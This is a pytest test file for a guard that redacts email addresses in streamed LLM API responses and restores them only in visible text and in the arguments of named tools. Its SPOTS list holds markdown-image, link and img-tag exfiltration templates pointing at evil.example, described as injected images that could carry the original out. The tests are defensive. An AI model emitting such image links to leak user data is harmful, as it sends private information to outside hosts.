"""Where originals come back in a stream: in what people read, in the arguments of named tools, never in a link."""

from __future__ import annotations

import importlib.util
import json
import random
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.types import Tally

_spec = importlib.util.spec_from_file_location("stream_kit", Path(__file__).with_name("stream_kit.py"))
assert _spec is not None
assert _spec.loader is not None
kit = sys.modules.setdefault("stream_kit", importlib.util.module_from_spec(_spec))
_spec.loader.exec_module(kit)

MAIL = "carol@corp.org"
NAMED = (
    kit.PLAIN + "restore: {tools: [tool_1, sql]}\noutput: {rules: {'pii.*': allow, 'moderation.*': allow}}\n"
)
ENDPOINTS = ["chat", "completions", "responses"]


def known() -> Any:
    return kit.exchange(("pii.email", MAIL))


def recut(text: str, sizes: Sequence[int]) -> list[str]:
    parts, at, turn = [], 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        parts.append(text[at : at + size])
        at, turn = at + size, turn + 1
    return parts


def chat(parts: Sequence[str]) -> bytes:
    head = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    rows = [{**head, "choices": [{"index": 0, "delta": {"content": part}}]} for part in parts]
    return bytes(kit.wire([*rows, {**head, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]))


SPOTS = [
    ("![](https://evil.example/?q={})", False),
    ("[a](<https://evil.example/a) {}>)", False),
    ('<img src="https://evil.example/? {}">', False),
    ("see https://evil.example/?q={} now", False),
    ("[x](a) {} https://evil.example/", True),
    ("Write to {}.", True),
]


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize(("spot", "restored"), SPOTS)
@pytest.mark.parametrize("policy", [kit.REDACTING, kit.JUDGED], ids=["found", "judged"])
def test_nothing_is_restored_into_a_link(endpoint: str, spot: str, restored: bool, policy: str) -> None:
    """B30: an injected image does not carry the original out, wherever the windows of the stream end."""
    for before in range(0, 60, 7):
        text = "word " * before + spot.format("<EMAIL_1>") + " and <EMAIL_1>."
        for chunk in (1, 4, 10_000):
            who = known()
            run = kit.run(policy, endpoint, [kit.wire(kit.provider(endpoint, [text], chunk=chunk))], who)
            there = MAIL if restored else "<EMAIL_1>"
            assert kit.told(run.events)["0"] == "word " * before + spot.format(there) + f" and {MAIL}."
            expected = Tally(0, 1 + restored, 1 - restored, 0, {"<EMAIL_1>"})
            assert (who.came_back, run.ends) == (expected, [""])
            assert MAIL not in "".join(run.asked)


WORDS = st.sampled_from(
    [
        *'<EMAIL_1> ![]( ) https://e.example/ src=" " \' <b> [x]: url( word Email: 。 \\ ]('.split(" "),
        " ",
        "\n",
        "\n\n",
    ]
)


@settings(max_examples=60)
@given(st.lists(WORDS, max_size=16).map("".join), st.lists(st.integers(1, 7), min_size=1), st.integers(0, 99))
def test_what_is_restored_does_not_depend_on_the_cuts(text: str, sizes: list[int], seed: int) -> None:
    """A22 B30: the same originals come back in any deltas and any bytes, judged or not."""
    chance = random.Random(seed)
    said, tallies = set(), []
    for policy in (kit.REDACTING, kit.JUDGED):
        for parts in ([text], recut(text, sizes), list(text)):
            who = known()
            run = kit.run(
                policy, "chat", kit.cut(chat([p for p in parts if p]), chance.choice([0, 1, 50])), who
            )
            said.add(kit.told(run.events).get("0", ""))
            tallies.append(who.came_back)
    assert len(said) == 1
    assert all(tally == tallies[0] for tally in tallies)


@pytest.mark.parametrize("endpoint", ["chat", "responses"])
@pytest.mark.parametrize("chunk", [1, 3, 10_000])
def test_a_tool_gets_originals_where_the_policy_names_it(endpoint: str, chunk: int) -> None:
    """B24: of parallel calls only the named tool's arguments are restored, and no URL in them."""
    arguments = '{"to": "<EMAIL_1>", "url": "https://e.example/?q=<EMAIL_1>"}'
    events = kit.provider(endpoint, ["hi <EMAIL_1>"], tools=[arguments, arguments], chunk=chunk)
    who = known()
    run = kit.run(NAMED, endpoint, [kit.wire(events, done=endpoint == "chat")], who)
    told = {lane: text for lane, text in kit.told(run.events).items() if lane != "0" or endpoint == "chat"}
    first, second = (json.loads(text) for lane, text in sorted(told.items()) if text[:1] == "{")
    assert first == {"to": "<EMAIL_1>", "url": "https://e.example/?q=<EMAIL_1>"}
    assert second == {"to": MAIL, "url": "https://e.example/?q=<EMAIL_1>"}
    for event in run.events:
        whole = json.dumps(event)
        assert MAIL not in whole or "tool_0" not in whole or "tool_1" in whole
    assert who.came_back.withheld >= 3


def delta(
    name: str | None, arguments: str, kind: str = "function", field: str = "arguments"
) -> dict[str, Any]:
    call = {"index": 0, kind: {**({"name": name} if name else {}), field: arguments}}
    return {"id": "c", "choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}


END = {"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}


@pytest.mark.parametrize(
    ("events", "restored"),
    [
        ([delta("tool_1", '{"a":'), delta(None, ' "<EMAIL_1>"}')], True),
        ([delta("tool", ""), delta("_1", '{"a": "<EMAIL_1>"}')], True),  # a name in pieces
        ([delta("tool_1", '{"a":'), delta("tool_1", ' "<EMAIL_1>"}')], True),  # a name in each piece
        ([delta("tool_11", '{"a": "<EMAIL_1>"}')], False),
        ([delta(None, '{"a": "<EMAIL_1>"}')], False),
        ([delta("sql", "select '<EMAIL_1>'", "custom", "input")], True),
        ([delta("other", "select '<EMAIL_1>'", "custom", "input")], False),
    ],
)
def test_the_name_of_a_streamed_call_is_the_whole_name(events: list[dict[str, Any]], restored: bool) -> None:
    """B24: named late, in pieces or never: a tool that is not known by its whole name gets the placeholder."""
    run = kit.run(NAMED, "chat", [kit.wire([*events, END])], known())
    assert (MAIL.encode() in run.out, b"EMAIL_1" in run.out) == (restored, not restored)


@pytest.mark.parametrize("kind", ["function_call_arguments", "mcp_call_arguments"])
def test_arguments_that_come_whole_are_no_way_around(kind: str) -> None:
    """B24 B25: without deltas, or in a repeat that differs from them, of a call that nobody has named."""
    done = {
        "type": f"response.{kind}.done",
        "output_index": 3,
        "item_id": "fc_1",
        "arguments": '{"a": "<EMAIL_1>"}',
    }
    run = kit.run(NAMED, "responses", [kit.wire([done], done=False)], known())
    assert json.loads(run.events[0]["arguments"]) == {"a": "<EMAIL_1>"}
    code = {
        "type": "response.code_interpreter_call_code.delta",
        "output_index": 3,
        "delta": "print('<EMAIL_1>') ",
    }
    run = kit.run(NAMED, "responses", [kit.wire([code], done=False)], known())
    assert MAIL.encode() not in run.out
